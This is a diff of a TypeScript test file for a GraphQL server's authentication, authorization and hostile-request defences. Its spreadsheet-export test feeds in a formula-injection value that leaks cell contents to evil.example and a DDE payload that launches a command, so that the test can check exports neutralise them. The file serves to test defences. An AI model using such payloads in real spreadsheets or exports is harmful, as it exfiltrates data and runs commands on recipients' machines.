@@ -1,12 +1,14 @@
 import { randomUUID } from 'node:crypto';
 import { loadConfig, mintToken, resolveAuthSecret } from '@qingmiao/api';
+import { graphql } from '@qingmiao/schema/graphql';
 import { parse } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
 import { serverAudits } from 'graphql-http';
 import { decodeJwt, type JWTPayload, SignJWT } from 'jose';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { runCli } from '../support/cli-process.ts';
-import { codeOf, startTestServer, type TestServer } from '../support/in-process-server.ts';
+import { codeOf, readAnswer } from '../support/graphql-http.ts';
+import { startTestServer, type TestServer } from '../support/in-process-server.ts';
 import { TEST_SECRET } from '../support/server-process.ts';
 
 const SECRET = new TextEncoder().encode('in-process-test-secret-0123456789abcdef');
@@ -51,8 +53,7 @@ describe('authentication', () => {
     });
     expect(response.status).toBe(401);
     expect(response.headers.get('www-authenticate')).toBe('Bearer');
-    const body = (await response.json()) as { errors: { extensions: { code: string } }[] };
-    expect(body.errors[0]?.extensions.code).toBe('UNAUTHENTICATED');
+    expect(codeOf(readAnswer(response.status, await response.text()))).toBe('UNAUTHENTICATED');
   });
 
   const sign = (claims: Record<string, unknown>, secret = SECRET, expires: number | null = exp()) => {
@@ -78,7 +79,7 @@ describe('authentication', () => {
     ['an unknown role', () => sign({ sub: 'a', role: 'admin' }), 'role'],
     ['a school token without schoolId', () => sign({ sub: 'a', role: 'school' }), 'schoolId'],
   ])('refuses %s', async (_name, make, message) => {
-    const response = await server.graphql(await make(), '{ schools { id } }');
+    const response = await server.graphql('{ schools { id } }', undefined, await make());
     expect(response.status).toBe(401);
     expect(codeOf(response)).toBe('UNAUTHENTICATED');
     expect(response.errors?.[0]?.message.toLowerCase()).toContain(message.toLowerCase());
@@ -95,7 +96,7 @@ describe('authentication', () => {
     ['a token living 31 days (over the 30 d cap)', () => ({ iat: now(), exp: now() + 31 * 86_400 }), 'lifetime'],
     ['a token without iat', () => ({ exp: now() + 600 }), 'no "iat" claim'],
   ])('refuses %s', async (_name, claims, message) => {
-    const response = await server.graphql(await signClaims(claims()), '{ schools { id } }');
+    const response = await server.graphql('{ schools { id } }', undefined, await signClaims(claims()));
     expect(response.status).toBe(401);
     expect(codeOf(response)).toBe('UNAUTHENTICATED');
     expect(response.errors?.[0]?.message).toContain(message);
@@ -103,10 +104,10 @@ describe('authentication', () => {
 
   it('accepts iat and nbf within 60 s of clock skew, and a lifetime of exactly the cap', async () => {
     const skewed = await signClaims({ iat: now() + 45, nbf: now() + 45, exp: now() + 600 });
-    expect(codeOf(await server.graphql(skewed, '{ schools { id } }'))).toBe('OK');
+    expect(codeOf(await server.graphql('{ schools { id } }', undefined, skewed))).toBe('OK');
     const issuedAt = now();
     const longest = await signClaims({ iat: issuedAt, exp: issuedAt + 30 * 86_400 });
-    expect(codeOf(await server.graphql(longest, '{ schools { id } }'))).toBe('OK');
+    expect(codeOf(await server.graphql('{ schools { id } }', undefined, longest))).toBe('OK');
   });
 
   it('caps lifetimes at QINGMIAO_MAX_TOKEN_LIFETIME, in the server and the CLI', async () => {
@@ -116,7 +117,7 @@ describe('authentication', () => {
     const capped = await startTestServer({ QINGMIAO_MAX_TOKEN_LIFETIME: '8h' });
     try {
       const ninehours = await signClaims({ iat: now(), exp: now() + 9 * 3600 });
-      const refused = await capped.graphql(ninehours, '{ schools { id } }');
+      const refused = await capped.graphql('{ schools { id } }', undefined, ninehours);
       expect(refused.status).toBe(401);
       expect(refused.errors?.[0]?.message).toContain('exceeds the maximum of 8h (QINGMIAO_MAX_TOKEN_LIFETIME)');
     } finally {
@@ -152,54 +153,76 @@ describe('authorization', () => {
     };
     for (const id of [ids.a, ids.b]) {
       await server.graphql(
-        organizer,
         `mutation { registerSchool(input: {id: "${id}", name: "校", kind: PRIMARY, town: "镇"}) { id } }`,
+        undefined,
+        organizer,
       );
     }
     await server.graphql(
-      organizer,
       `mutation { createCampaign(input: {id: "${ids.c}", kind: ESSAY, title: "t", year: 2022, opensAt: "2022-01-01T00:00:00Z", closesAt: "2099-01-01T00:00:00Z"}) { id } }`,
+      undefined,
+      organizer,
     );
-    await server.graphql(organizer, `mutation { openCampaign(input: {id: "${ids.c}"}) { id } }`);
+    await server.graphql(`mutation { openCampaign(input: {id: "${ids.c}"}) { id } }`, undefined, organizer);
     const schoolA = await mintToken(SECRET, { sub: 'a', role: 'school', schoolId: ids.a });
     const schoolB = await mintToken(SECRET, { sub: 'b', role: 'school', schoolId: ids.b });
-    const submitted = await server.graphql<{ submitEntry: { id: string } }>(
+    const submitted = await server.graphql(
+      graphql(`mutation Submit($i: SubmitEntryInput!) { submitEntry(input: $i) { id } }`),
+      {
+        i: {
+          submissionId: 'x',
+          campaignId: ids.c,
+          schoolId: ids.a,
+          title: 't',
+          participants: [{ name: '小红', role: 'STUDENT' }],
+        },
+      },
       schoolA,
-      `mutation { submitEntry(input: {submissionId: "x", campaignId: "${ids.c}", schoolId: "${ids.a}", title: "t", participants: [{name: "小红", role: STUDENT}]}) { id } }`,
     );
     const entryId = submitted.data?.submitEntry.id ?? '';
 
-    const own = await server.graphql<{ entry: { participants: { name: string }[] } }>(
+    const own = await server.graphql(
+      graphql(`query Own($id: ID!) { entry(id: $id) { participants { name } } }`),
+      { id: entryId },
       schoolA,
-      `{ entry(id: "${entryId}") { participants { name } } }`,
     );
-    expect(own.data?.entry.participants).toEqual([{ name: '小红' }]);
-    expect((await server.graphql(schoolB, `{ entry(id: "${entryId}") { id } }`)).data).toEqual({ entry: null });
-    const listed = await server.graphql<{ campaign: { entries: unknown[] } }>(
-      schoolB,
-      `{ campaign(id: "${ids.c}") { entries { id } } }`,
-    );
-    expect(listed.data?.campaign.entries).toEqual([]);
-    expect(codeOf(await server.graphql(schoolB, `{ entryHistory(entryId: "${entryId}") { type } }`))).toBe('OK');
-    expect((await server.graphql(schoolB, `{ entryHistory(entryId: "${entryId}") { type } }`)).data).toEqual({
-      entryHistory: [],
+    expect(own.data?.entry?.participants).toEqual([{ name: '小红' }]);
+    expect((await server.graphql(`{ entry(id: "${entryId}") { id } }`, undefined, schoolB)).data).toEqual({
+      entry: null,
     });
+    const listed = await server.graphql(
+      graphql(`query Listed($id: ID!) { campaign(id: $id) { entries { id } } }`),
+      { id: ids.c },
+      schoolB,
+    );
+    expect(listed.data?.campaign?.entries).toEqual([]);
+    expect(codeOf(await server.graphql(`{ entryHistory(entryId: "${entryId}") { type } }`, undefined, schoolB))).toBe(
+      'OK',
+    );
+    expect((await server.graphql(`{ entryHistory(entryId: "${entryId}") { type } }`, undefined, schoolB)).data).toEqual(
+      {
+        entryHistory: [],
+      },
+    );
 
     const viewer = await server.token('viewer');
-    expect(codeOf(await server.graphql(viewer, `{ campaign(id: "${ids.c}") { entries { id } } }`))).toBe('FORBIDDEN');
+    expect(codeOf(await server.graphql(`{ campaign(id: "${ids.c}") { entries { id } } }`, undefined, viewer))).toBe(
+      'FORBIDDEN',
+    );
     // A judge of another campaign does not even see the entry.
     const judge = await server.token('judge', { sub: 'judge-x' });
-    const blind = await server.graphql(judge, `{ entry(id: "${entryId}") { participants { name } } }`);
+    const blind = await server.graphql(`{ entry(id: "${entryId}") { participants { name } } }`, undefined, judge);
     expect(blind.data).toEqual({ entry: null });
     expect(codeOf(blind)).toBe('OK');
     const scored = await server.graphql(
-      judge,
       `mutation { scoreEntry(input: {entryId: "${entryId}", score: 90}) { id } }`,
+      undefined,
+      judge,
     );
     expect(codeOf(scored)).toBe('FORBIDDEN');
-    expect(codeOf(await server.graphql(schoolB, `mutation { closeCampaign(input: {id: "${ids.c}"}) { id } }`))).toBe(
-      'FORBIDDEN',
-    );
+    expect(
+      codeOf(await server.graphql(`mutation { closeCampaign(input: {id: "${ids.c}"}) { id } }`, undefined, schoolB)),
+    ).toBe('FORBIDDEN');
   });
 });
 
@@ -240,10 +263,10 @@ describe('hostile requests', () => {
 
   it('stops deep, wide and alias-flooded documents before they run', async () => {
     const deep = `{ campaigns { ${'entries { '.repeat(1)}id ${'}'.repeat(1)} ${Array.from({ length: 40 }, (_, i) => `a${i}: schools { id }`).join(' ')} }`;
-    const flooded = await server.graphql(organizer, deep.replace('{ campaigns { entries { id } ', '{ '));
+    const flooded = await server.graphql(deep.replace('{ campaigns { entries { id } ', '{ '), undefined, organizer);
     expect(flooded.errors?.[0]?.message).toMatch(/alias/i);
     const nested = `{ ${'campaigns { entries { '.repeat(1)} id } } ${'__typename '.repeat(5000)} }`;
-    const tokens = await server.graphql(organizer, nested);
+    const tokens = await server.graphql(nested, undefined, organizer);
     expect(tokens.errors?.[0]?.message).toMatch(/token/i);
   });
 
@@ -277,14 +300,18 @@ describe('hostile requests', () => {
     });
     const shallow = await post(JSON.stringify({ query: '{ schools { id } }', variables: { x: JSON.parse(deep(60)) } }));
     expect(shallow.status).toBe(200);
-    expect(codeOf(await server.graphql(organizer, '{ schools { id } }'))).toBe('OK');
+    expect(codeOf(await server.graphql('{ schools { id } }', undefined, organizer))).toBe('OK');
   });
 
   it('refuses names and titles made of invisible or direction-overriding characters, naming the field', async () => {
     const register = (name: string) =>
-      server.graphql(organizer, 'mutation ($input: RegisterSchoolInput!) { registerSchool(input: $input) { name } }', {
-        input: { name, kind: 'PRIMARY', town: '城厢镇' },
-      });
+      server.graphql(
+        'mutation ($input: RegisterSchoolInput!) { registerSchool(input: $input) { name } }',
+        {
+          input: { name, kind: 'PRIMARY', town: '城厢镇' },
+        },
+        organizer,
+      );
     const zeroWidth = await register('\u200B\u200C\u200B');
     expect(zeroWidth.errors?.[0]?.extensions).toEqual({ code: 'BAD_USER_INPUT', field: 'name' });
     expect(zeroWidth.errors?.[0]?.message).toMatch(/^name: .*control or format characters/);
@@ -293,7 +320,6 @@ describe('hostile requests', () => {
     });
 
     const campaign = await server.graphql(
-      organizer,
       'mutation ($input: CreateCampaignInput!) { createCampaign(input: $input) { id } }',
       {
         input: {
@@ -304,6 +330,7 @@ describe('hostile requests', () => {
           closesAt: '2026-12-31T00:00:00Z',
         },
       },
+      organizer,
     );
     expect(campaign.errors?.[0]?.extensions).toEqual({ code: 'BAD_USER_INPUT', field: 'title' });
   });
@@ -313,10 +340,12 @@ describe('hostile requests', () => {
     try {
       const token = await limited.token('viewer');
       const statuses = [];
-      for (let i = 0; i < 7; i++) statuses.push((await limited.graphql(token, '{ schools { id } }')).status);
+      for (let i = 0; i < 7; i++) statuses.push((await limited.graphql('{ schools { id } }', undefined, token)).status);
       expect(statuses).toEqual([200, 200, 200, 200, 200, 429, 429]);
       // Another token still has its own budget.
-      expect((await limited.graphql(await limited.token('organizer'), '{ schools { id } }')).status).toBe(200);
+      expect((await limited.graphql('{ schools { id } }', undefined, await limited.token('organizer'))).status).toBe(
+        200,
+      );
     } finally {
       await limited.stop();
     }
@@ -328,11 +357,11 @@ describe('hostile requests', () => {
       const token = await production.token('viewer');
       const page = await fetch(`${production.url}/graphql`, { headers: { accept: 'text/html' } });
       expect(await page.text()).not.toContain('GraphiQL');
-      const introspection = await production.graphql(token, '{ __schema { types { name } } }');
+      const introspection = await production.graphql('{ __schema { types { name } } }', undefined, token);
       expect(introspection.errors?.[0]?.message).toMatch(/introspection/i);
-      const typo = await production.graphql(token, '{ schoolz { id } }');
+      const typo = await production.graphql('{ schoolz { id } }', undefined, token);
       expect(typo.errors?.[0]?.message).not.toMatch(/did you mean/i);
-      const dev = await server.graphql(organizer, '{ schoolz { id } }');
+      const dev = await server.graphql('{ schoolz { id } }', undefined, organizer);
       expect(dev.errors?.[0]?.message).toMatch(/did you mean/i);
     } finally {
       await production.stop();
@@ -346,14 +375,15 @@ describe('spreadsheet exports', () => {
     const name = '=HYPERLINK("http://evil.example/?leak="&A1,"实验小学")';
     const town = "+cmd|' /C calc'!A0";
     const registered = await server.graphql(
-      organizer,
       'mutation ($input: RegisterSchoolInput!) { registerSchool(input: $input) { id } }',
       { input: { id, name, kind: 'PRIMARY', town } },
+      organizer,
     );
     expect(codeOf(registered)).toBe('OK');
     const enrolled = await server.graphql(
-      organizer,
       `mutation { recordEnrollment(input: {schoolId: "${id}", year: 2023, students: 300}) { students } }`,
+      undefined,
+      organizer,
     );
     expect(codeOf(enrolled)).toBe('OK');
     const download = (path: string) =>
